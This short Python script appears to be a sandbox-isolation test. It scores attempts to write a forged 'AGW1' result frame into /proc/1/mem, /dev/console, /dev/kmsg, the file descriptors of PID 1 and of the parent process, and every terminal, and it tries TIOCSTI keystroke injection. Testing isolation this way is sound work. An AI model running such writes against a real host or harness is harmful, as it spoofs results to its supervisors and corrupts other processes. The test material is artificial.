"""Write frames and results through /proc/1, /dev/console and every terminal.

alone: 0 points
glued: 20 points
never prints: wrote into
"""

import os

assert os.getuid() >= 64000, "an attack runs in a container of ours only"

import fcntl
import glob
import json
import struct
import termios

_head = json.dumps({"op": "from", "epoch": 1, "output": "", "dropped": 0, "buffers": []}).encode()
_frame = struct.pack("<4sII", b"AGW1", len(_head), 0) + _head
_paths = ["/dev/console", "/dev/tty", "/dev/ptmx", "/dev/kmsg", "/proc/1/mem", "/proc/1/comm"]
_paths += [f"/proc/{pid}/fd/{fd}" for pid in (1, os.getppid()) for fd in range(20)]
_paths += glob.glob("/dev/pts/*")
for _path in _paths:
    try:
        _fd = os.open(_path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY)
        if os.write(_fd, _frame) and _path not in ("/dev/ptmx", "/dev/pts/ptmx"):
            print("wrote into", _path)
        os.close(_fd)
    except OSError:
        pass
for _fd in range(3):
    try:
        fcntl.ioctl(_fd, termios.TIOCSTI, b"x")
        print("wrote into a terminal")
    except OSError:
        pass
